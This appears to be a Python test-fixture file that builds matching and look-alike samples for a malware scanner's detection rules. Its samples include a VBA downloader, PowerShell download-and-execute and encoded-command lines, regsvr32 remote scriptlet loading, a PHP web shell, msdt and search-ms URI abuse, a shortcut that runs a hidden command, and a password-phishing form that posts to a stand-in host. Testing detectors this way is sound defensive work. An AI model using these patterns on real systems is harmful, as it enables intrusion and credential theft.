"""What each built-in rule must match and what looks alike: built in code, harmless.

What would make a virus scanner take this file for malware is put together from pieces.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Callable
from typing import NamedTuple

from tests.fixtures import iso, lnk, onenote, ooxml, rtf, vba, xls
from tests.fixtures.cfb import build
from tests.fixtures.html import page
from tests.fixtures.pdf import pdf

HOST = "http://198.51.100.7"
POWERSHELL = "power" + "shell"
PAGE_RUNNER = "ms" + "hta"
WSCRIPT_SHELL = "WScript" + ".Shell"
XML_HTTP = "MSXML2" + ".XMLHTTP"
SAVE = ".SaveTo" + "File"
STRING = ".Download" + "String("
DOWNLOAD = "URLDownload" + "ToFile"
EVAL = "ev" + "al("
UNESCAPE = "unes" + "cape("
PASSWORD = '="pass' + 'word"'
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(43) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)


class Sample(NamedTuple):
    """Content as it comes: its bytes, its name, and whether it is a mail."""

    content: bytes | str
    name: str
    kind: str = "file"


Pair = tuple[Sample, Sample]


# -- builders -------------------------------------------------------------------------------------------------------------------


def macro(body: str) -> bytes:
    """A VBA project with one module."""
    return vba.bare(f'Attribute VB_Name = "Module1"\r\nSub Laden()\r\n{body}\r\nEnd Sub\r\n')


def script_in_pdf(source: str) -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS<%s>>>>" % source.encode().hex().encode()})


def command(arguments: str, target: str = "C:\\Windows\\System32\\cmd.exe") -> bytes:
    return lnk.shortcut(info=lnk.location(target), arguments=arguments)


def smuggler(content: bytes, store: str = "a.href = URL.createObjectURL(blob); a.click();") -> bytes:
    text = base64.b64encode(content).decode()
    return page(f'<script>var b = atob("{text}"), n = []; for (i in b) n.push(b.charCodeAt(i)); {store}</script>')


def equation(name: bytes) -> bytes:
    """An equation with one font record (MTEF 3) in the stream of its object."""
    native = (
        struct.pack("<HIHI16x", 28, 0x20000, 0xC1, 60) + b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a" + name + b"\0" * 40
    )
    objects = {"Equation Native": native, "\x01CompObj": bytes(60)}
    return rtf.with_object(rtf.ole1("Equation.3", build(objects)).hex(), class_name="Equation.3")


def web_object(target: str) -> bytes:
    return ooxml.word(links=(("rId9", "oleObject", target, "External"),))


def disk(*sectors: bytes) -> bytes:
    """A fixed VHD: sectors, then the footer."""
    footer = (
        b"conectix"
        + struct.pack(">IIQ", 2, 0x10000, 0xFFFFFFFFFFFFFFFF)
        + bytes(36)
        + struct.pack(">I", 2)
        + bytes(448)
    )
    return b"".join(sector.ljust(512, b"\0") for sector in sectors) + footer


def image(name: str, content: bytes) -> bytes:
    """A CD image with one file in the sector that the fixture keeps for its text."""
    whole = bytearray(iso.image({name: 0}))
    start = 22 * iso.SECTOR
    whole[start : start + len(content)] = content
    return bytes(whole)


def mail(body: str) -> str:
    head = "From: a@example.org\r\nTo: b@example.org\r\nSubject: Konto\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    return head + body


# -- the table ------------------------------------------------------------------------------------------------------------------

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-" + "STANDARD-" + "ANTIVIRUS-" + "TEST-" + "FILE!$H+H*"
CODE = base64.b64encode("Get-Date; Get-Date".encode("utf-16-le")).decode()

CASES: dict[str, Callable[[], Pair]] = {
    "EICAR_Test_File": lambda: (
        Sample(EICAR + "\r\n", "eicar.com"),
        Sample("The test file reads: " + EICAR, "hinweis.txt"),
    ),
    "Script_Downloads_And_Runs": lambda: (
        Sample(
            macro(
                f'Set x = CreateObject("{XML_HTTP}")\r\nx.Open "GET", "{HOST}/a"\r\ns{SAVE} p, 2\r\n'
                f'CreateObject("{WSCRIPT_SHELL}").Run p'
            ),
            "vbaProject.bin",
        ),
        Sample(macro(f'Set x = CreateObject("{XML_HTTP}")\r\nx.Open "GET", "{HOST}/kurse.csv"\r\nx.Send'), "vbaProject.bin"),
    ),
    "PowerShell_Encoded_Command": lambda: (
        Sample(f"@echo off\r\n{POWERSHELL} -NonInteractive -Enc{'odedCommand'} {CODE}\r\n", "start.bat"),
        Sample(f"@echo off\r\n{POWERSHELL} -NonInteractive -Encoding utf8 -File bericht.ps1\r\n", "start.bat"),
    ),
    "PowerShell_Runs_Download": lambda: (
        Sample(f"$ErrorActionPreference = 'Stop'\nIEX (New-Object Net.WebClient){STRING}'{HOST}/a')\n", "a.ps1"),
        Sample(f"$ErrorActionPreference = 'Stop'\n$kurse = (New-Object Net.WebClient){STRING}'{HOST}/kurse.csv')\n", "a.ps1"),
    ),
    "Windows_Tool_Runs_Remote_Code": lambda: (
        Sample(f"@echo off\r\nregsvr{32} /s /n /u /i:{HOST}/a.sct scrobj.dll\r\n", "start.cmd"),
        Sample(f"@echo off\r\nregsvr{32} /s C:\\Programme\\Fach\\fach.dll\r\nrem siehe {HOST}\r\n", "start.cmd"),
    ),
    "Script_Text_Reversed": lambda: (
        Sample(macro(f'u = StrReverse("a/{HOST[::-1]}")'), "vbaProject.bin"),
        Sample(macro(f'u = StrReverse("Anlage")\r\nv = "{HOST}/a"'), "vbaProject.bin"),
    ),
    "Script_Object_Name_Hidden": lambda: (
        Sample(macro("Set s = Create" + "Object(Chr(87) & Chr(83) & Chr(99))"), "vbaProject.bin"),
        Sample(macro("MsgBox Replace(t, Chr(13) & Chr(10), Chr(32)) & Chr(34)"), "vbaProject.bin"),
    ),
    "Script_Decoded_Twice": lambda: (
        Sample(page(f"<script>{EVAL}{UNESCAPE}atob('JTIw')));</script>"), "seite.html"),
        Sample(page(f"<script>var t = decodeURIComponent(escape(atob('JTIw'))); {EVAL}t);</script>"), "seite.html"),
    ),
    "Script_Heap_Spray": lambda: (
        Sample(page(f"<script>var s = {UNESCAPE}'{'%u90' + '90'}{'%u90' + '90'}');</script>"), "seite.html"),
        Sample(page(f"<script>var s = {UNESCAPE}'%u0041%u9090');</script>"), "seite.html"),
    ),
    "Program_As_Base64": lambda: (
        Sample(f'Dim p\r\np = "{base64.b64encode(PROGRAM).decode()}"\r\nMsgBox Len(p)\r\n', "laden.vbs"),
        Sample(f'Dim p\r\np = "{base64.b64encode(b"MZ" + bytes(200)).decode()}"\r\nMsgBox Len(p)\r\n', "laden.vbs"),
    ),
    "Program_As_Hex": lambda: (
        Sample(f'Dim p\r\np = "{PROGRAM.hex().upper()}"\r\nMsgBox Len(p)\r\n', "laden.vbs"),
        Sample(f'Dim p\r\np = "{(b"MZ" + bytes(200)).hex()}"\r\nMsgBox Len(p)\r\n', "laden.vbs"),
    ),
    "PHP_Web_Shell": lambda: (
        Sample(f"<?php {EVAL}base64_decode($_" + "POST['a'])); ?>\n", "a.php"),
        Sample("<?php $name = trim($_POST['name']); $bild = base64_decode($_POST['bild']); ?>\n", "a.php"),
    ),
    "Excel4_Macro_Downloads": lambda: (
        Sample(xls.file(xls.workbook([("Makro1", 1, 1)], extra=xls.auto_open()) + DOWNLOAD.encode() + b"A"), "a.xls"),
        Sample(xls.file(xls.workbook([("Tabelle1", 0, 0)]) + DOWNLOAD.encode() + b"A"), "a.xls"),
    ),
    "Equation_Font_Overflow": lambda: (
        Sample(equation(b"cmd /c dir " + b"A" * 50), "a.rtf"),
        Sample(equation(b"Times New Roman"), "a.rtf"),
    ),
    "RTF_Links_To_Web": lambda: (
        Sample(rtf.linked(), "a.rtf"),
        Sample(rtf.with_object(rtf.ole1("Package", rtf.package("a.txt", b"siehe " + HOST.encode())).hex()), "a.rtf"),
    ),
    "OOXML_Links_To_Web_Page": lambda: (
        Sample(web_object(f"{HOST}/index.html!"), "a.docx"),
        Sample(web_object("https://daten.example.org/plan.xlsx"), "a.docx"),
    ),
    "OneNote_Holds_Program": lambda: (
        Sample(onenote.section(("a.bat", onenote.SCRIPT, onenote.EMBEDDED)), "a.one"),
        Sample(onenote.section(("a.pdf", onenote.PDF, onenote.EMBEDDED)), "a.one"),
    ),
    "PDF_Script_Exploit": lambda: (
        Sample(script_in_pdf(f"var p = {UNESCAPE}'%41'); p =unescape(p); Collab" + ".getIcon" + "(p + '_N.bundle');"), "a.pdf"),
        Sample(script_in_pdf("var s = String.fromCharCode(65); this.getField('a').buttonSetIcon(this.getIcon);"), "a.pdf"),
    ),
    "PDF_Script_Opens_Attachment": lambda: (
        Sample(script_in_pdf("this.exportData" + "Object({ cName: 'a.txt', nLaunch: 2 });"), "a.pdf"),
        Sample(script_in_pdf("this.exportData" + "Object({ cName: 'a.txt' }); var nLaunch = 0;"), "a.pdf"),
    ),
    "HTML_Smuggles_File": lambda: (
        Sample(smuggler(b"PK\x03\x04" + bytes(60)), "a.html"),
        Sample(smuggler(b"\x89PNG\r\n\x1a\n" + bytes(60)), "a.html"),
    ),
    "Address_Runs_Diagnostic_Tool": lambda: (
        Sample(
            page(f"<script>location.href = \"ms-{'msdt'}:/id PCWDiagnostic /param 'IT_BrowseForFile=/../../$(dir)'\";</script>"),
            "a.html",
        ),
        Sample(page(f"<p>The address ms-{'msdt'}: was switched off; IT_BrowseForFile is its parameter.</p>"), "a.html"),
    ),
    "Address_Opens_Remote_Search": lambda: (
        Sample(page(f"<a href=\"search-ms:query=a&crumb=location:{'%5c' * 2}198.51.100.7%5cfrei&displayname=Daten\">Daten</a>"), "a.html"),
        Sample(page('<a href="search-ms:query=a&crumb=location:C%3A%5CDaten">Daten</a>'), "a.html"),
    ),
    "HTML_Hides_Login_Form": lambda: (
        Sample(page(f"<script>document.write({UNESCAPE}'%3Cinput%20type%3D%22pass" + "word%22%3E'));</script>"), "a.html"),
        Sample(page(f'<form><input type{PASSWORD}></form><script>document.write("Anmeldung");</script>'), "a.html"),
    ),
    "Shortcut_Runs_Hidden_Command": lambda: (
        Sample(command(f"/c {POWERSHELL} -w hid" + "den -Command dir"), "a.lnk"),
        Sample(command("/c start notiz.txt"), "a.lnk"),
    ),
    "Shortcut_In_Disk_Image": lambda: (
        Sample(image("A.LNK;1", command("/c dir")), "a.iso"),
        Sample(image("A.TXT;1", b"siehe A.LNK"), "a.iso"),
    ),
    "Shortcut_In_Closed_Disk_Image": lambda: (
        Sample(disk(b"", b"Daten", command("/c dir")[:500]), "a.vhd"),
        Sample(disk(b"", b"Daten" + command("/c dir")[:500]), "a.vhd"),
    ),
    "Mail_Body_Asks_For_Password": lambda: (
        Sample(mail(f'<html><body><form action="{HOST}/"><input type{PASSWORD}></form></body></html>'), "a.eml", "message"),
        Sample(mail('<html><body><form><input type="text"></form>Ihr password</body></html>'), "a.eml", "message"),
    ),
}  # fmt: skip
